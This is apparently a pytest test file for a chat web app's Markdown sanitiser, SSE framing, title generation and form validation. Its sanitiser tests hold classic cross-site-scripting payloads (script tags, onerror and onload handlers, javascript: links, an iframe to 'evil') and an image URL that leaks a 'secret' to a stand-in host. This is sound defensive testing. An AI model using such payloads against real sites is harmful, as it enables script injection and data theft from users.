"""What reaches the browser: sanitized Markdown, SSE framing, titles, form validation."""

from html.parser import HTMLParser

import pytest

from app.core.markdown import render_markdown
from app.web.auth.forms import SignupForm
from app.web.chat.forms import MessageForm, TitleForm
from app.web.chat.store import TITLE_MAX, title_from
from app.web.chat.stream import sse


@pytest.mark.parametrize(
    "source",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        "[click](javascript:alert(1))",
        '<div onclick="alert(1)">x</div>',
        "<iframe src=//evil></iframe>",
        '<svg onload="alert(1)"></svg>',
    ],
)
def test_markup_in_a_reply_is_shown_as_text_never_as_html(source):
    html = str(render_markdown(source))
    tags = _tags(html)
    assert {name for name, _ in tags} <= {"p", "a"}
    for _, attrs in tags:
        assert not any(key.startswith("on") for key, _ in attrs)
        assert not any(
            (value or "").strip().lower().startswith("javascript:") for _, value in attrs
        )
    assert "&lt;" in html or "click" in html  # the markup is kept as visible text


def _tags(html: str) -> list[tuple[str, list]]:
    found = []

    class Collector(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, attrs))

    Collector().feed(html)
    return found


def test_markdown_renders_and_links_are_safe():
    html = str(
        render_markdown(
            "**bold** `code`\n\n- a\n- b\n\n[site](https://example.com)\n\n![x](https://evil/leak?q=secret)"
        )
    )
    assert "<strong>bold</strong>" in html and "<code>code</code>" in html and "<li>a</li>" in html
    assert 'href="https://example.com"' in html and 'rel="noopener noreferrer nofollow"' in html
    assert "<img" not in html  # images could leak the conversation through their URL


def test_table_alignment_is_a_class_not_a_style_the_pages_policy_would_block():
    html = str(render_markdown("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |"))
    assert '<th class="align-left">a</th>' in html and '<td class="align-right">3</td>' in html
    assert "style=" not in html
    assert "<td class" not in str(
        render_markdown('| a |\n|---|\n| <td class="x" style="color:red"> |')
    )


def test_sse_events_split_multiline_data_into_data_lines():
    assert sse("token", "a\nb\r\nc") == b"event: token\ndata: a\ndata: b\ndata: c\n\n"
    assert sse("text", "") == b"event: text\ndata: \n\n"


def test_titles_come_from_the_first_message_and_are_short():
    assert title_from("  Plan my\ntrip to Rome  ") == "Plan my trip to Rome"
    long = title_from("word " * 60)
    assert len(long) <= TITLE_MAX + 1 and long.endswith("…")
    assert title_from("") == "New chat"


def test_message_form_strips_and_limits():
    assert MessageForm(content="  hi \n").content == "hi"
    with pytest.raises(ValueError, match="Type a message"):
        MessageForm(content="   ")
    with pytest.raises(ValueError, match="too long"):
        MessageForm(content="x" * 32_001)
    with pytest.raises(ValueError):
        TitleForm(title=" ")


def test_signup_form_normalises_email_and_requires_a_real_password():
    assert SignupForm(email=" Ada@Example.COM ", password="long enough").email == "ada@example.com"
    with pytest.raises(ValueError, match="at least 8"):
        SignupForm(email="a@b.c", password="short")
    with pytest.raises(ValueError, match="valid email"):
        SignupForm(email="not-an-email", password="long enough")
